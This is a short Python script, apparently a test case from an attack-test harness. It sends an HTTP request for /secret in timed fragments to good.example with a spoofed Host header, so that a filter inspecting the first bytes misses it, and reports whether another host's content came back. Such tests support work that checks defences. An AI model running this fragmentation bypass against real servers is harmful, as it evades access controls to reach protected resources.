# The same, with the request in small parts and pauses, so that what is looked at first is no request yet.
# none: succeeds
import time

import attack

for cut in (1, 3, 4, 9, 14):
    form = b"GET /secret HTTP/1.1\r\nHost: other.example\r\n\r\n"
    made = attack.connect("good.example", 80)
    if made is None:
        continue
    try:
        made.sendall(form[:cut])
        time.sleep(0.8)
        made.sendall(form[cut : cut + 1])
        time.sleep(0.8)
    except OSError:
        continue
    answer = attack.talk(made, form[cut + 1 :])
    if b'"host": "other.example' in answer:
        attack.succeeded(f"cut at {cut}")
attack.held()
